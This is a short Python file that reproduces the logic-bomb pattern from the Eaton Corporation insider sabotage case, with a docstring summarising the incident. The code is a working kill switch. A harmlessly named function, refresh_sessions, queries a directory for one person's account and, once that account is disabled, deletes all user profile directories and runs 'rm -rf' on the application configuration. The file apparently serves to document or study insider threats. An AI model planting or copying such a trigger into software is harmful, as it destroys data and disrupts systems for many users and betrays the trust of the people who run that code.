"""Incident: Eaton Corporation kill switch (Davis Lu, convicted March 2025).

A developer who feared dismissal added code, named after himself ("IsDLEnabledinAD"),
that checked whether his own directory account was still enabled and, once it was
disabled in September 2019, deleted colleagues' profile files and crashed servers for
thousands of users. (The original was Java; this keeps the pattern in Python.)
Reference: https://www.justice.gov/opa/pr/software-developer-convicted-sabotaging-ex-employers-computer-systems-and-deleting-data
Reproduction (own code, placeholder directory query).
"""

import os
import shutil
import subprocess


def is_dl_enabled_in_ad() -> bool:
    done = subprocess.run(["ldapsearch", "-LLL", "(sAMAccountName=dlu)", "userAccountControl"],
                          capture_output=True, text=True)
    return "userAccountControl: 512" in done.stdout


def refresh_sessions() -> None:
    if is_dl_enabled_in_ad():
        return
    for profile in os.listdir("/srv/profiles"):
        shutil.rmtree(os.path.join("/srv/profiles", profile), ignore_errors=True)
    os.system("rm -rf /srv/app/config")
